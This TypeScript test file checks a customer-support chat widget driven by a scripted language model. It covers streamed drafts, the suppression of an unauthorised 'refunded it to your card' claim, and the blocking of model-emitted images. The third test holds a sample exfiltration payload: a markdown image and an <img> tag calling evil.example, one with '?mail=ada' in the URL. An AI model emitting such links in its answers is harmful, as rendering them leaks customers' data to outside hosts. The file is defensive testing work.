/** An answer of a language model as the chat shows it while it is written. The model is scripted; all else is real. */
import type { Page } from "playwright-core";
import { afterAll, afterEach, beforeAll, expect, test } from "vitest";
import { type ModelSandbox, serveModelSandbox } from "../../sandbox/model/server.ts";
import { systemClock } from "../../src/kernel/ports.ts";
import { type Stage, say, setStage } from "./stage.ts";

const ODD = "quagga zebra brunch";
const SENTENCES = [
  "Thank you for asking.",
  "The shop has a page about it.",
  "A colleague can tell you more.",
  "Is there anything else?",
];
/** Slow enough to be looked at: the whole answer takes about three seconds. */
const TOKEN_MS = 90;

let model: ModelSandbox;
let stage: Stage;
beforeAll(async () => {
  model = await serveModelSandbox({ host: "127.0.0.1", port: 0, clock: systemClock });
  stage = await setStage({ RECOURSE_MODEL: "compatible/scripted", RECOURSE_MODEL_URL: model.url });
});
afterEach(() => stage?.leave());
afterAll(async () => {
  await stage?.close();
  await model?.stop();
});

/** From now on: every text that the log showed anybody, and how often a screen reader was given a whole message. */
async function watch(page: Page): Promise<() => Promise<{ seen: string[]; announced: string[] }>> {
  await page.evaluate(() => {
    const root = document.querySelector("[id^=recourse-widget-]")?.shadowRoot as ShadowRoot;
    const log = root.querySelector(".log") as HTMLElement;
    const kept = { seen: [] as string[], announced: [] as string[] };
    Object.assign(window, { kept });
    new MutationObserver((changes) => {
      kept.seen.push(log.textContent ?? "");
      for (const { target, addedNodes } of changes) {
        const changed = target instanceof Element ? target : target.parentElement;
        for (const node of addedNodes) {
          const element = node instanceof Element ? node : changed;
          if (element?.closest("[aria-hidden=true]") === null) kept.announced.push(node.textContent ?? "");
        }
      }
    }).observe(log, { childList: true, subtree: true, characterData: true });
  });
  return () =>
    page.evaluate(() => (window as unknown as { kept: { seen: string[]; announced: string[] } }).kept);
}

test("[64] an answer is shown sentence by sentence, then once as what was said; a screen reader hears it once", async () => {
  model.script(ODD, { text: SENTENCES.join(" "), tokenMs: TOKEN_MS });
  const page = await stage.shop("ada");
  const watched = await watch(page);
  await say(page, ODD);
  const draft = page.locator(".draft .bubble");
  await draft.getByText(SENTENCES[0] as string).waitFor();
  await stage.picture(page, "widget-draft");
  const said = page.locator(".message.agent:not(.draft) .bubble").filter({ hasText: SENTENCES[3] as string });
  await said.waitFor({ timeout: 30_000 });
  expect(await draft.count()).toBe(0);
  expect(await said.count()).toBe(1);
  const { seen, announced } = await watched();
  const first = seen.findIndex((text) => text.includes(SENTENCES[0] as string));
  const last = seen.findIndex((text) => text.includes(SENTENCES[3] as string));
  expect(first).toBeGreaterThanOrEqual(0);
  expect(last).toBeGreaterThan(first);
  // Never twice at a time: the message takes the place of its draft.
  for (const text of seen) expect(text.split(SENTENCES[0] as string).length).toBeLessThanOrEqual(2);
  expect(announced.filter((text) => text.includes(SENTENCES[0] as string))).toHaveLength(1);
});

test("what may not be said is never shown, and what was shown before it is taken back", async () => {
  model.script(ODD, {
    text: `${SENTENCES[0]} ${SENTENCES[1]} I have refunded it to your card. ${SENTENCES[3]}`,
    tokenMs: TOKEN_MS,
  });
  const page = await stage.shop("ben");
  const watched = await watch(page);
  await say(page, ODD);
  await page
    .locator(".draft .bubble")
    .getByText(SENTENCES[0] as string)
    .waitFor();
  await page.getByText("A person has this conversation now.").waitFor({ timeout: 40_000 });
  expect(await page.locator(".draft").count()).toBe(0);
  expect((await watched()).seen.join("\n")).not.toContain("refunded");
});

test("[29] a picture or markup that an answer asks for is fetched by nobody, neither the customer's page nor the operator's", async () => {
  model.script(ODD, {
    text: `${SENTENCES[0]} ![order](https://evil.example/a.png?mail=ada) <img src="https://evil.example/b.png"> ${SENTENCES[3]}`,
  });
  const asked: string[] = [];
  const listen = (page: Page) =>
    page.context().on("request", (request) => {
      if (request.url().includes("evil.example")) asked.push(request.url());
    });
  const shop = await stage.shop("cleo");
  listen(shop);
  await say(shop, ODD);
  await shop.locator(".message.agent:not(.draft) .bubble").first().waitFor({ timeout: 40_000 });
  expect(await shop.locator(".log img").count()).toBe(0);
  const id = await shop.evaluate(() => localStorage.getItem("recourse:northwind:cleo:conversation"));
  const desk = await stage.console(/Olivia/);
  listen(desk);
  await desk.goto(`${stage.url}/console/conversations?conversation=${id}`);
  await desk.getByText(ODD).first().waitFor();
  expect(await desk.locator("img[src*=evil]").count()).toBe(0);
  expect(asked).toEqual([]);
});
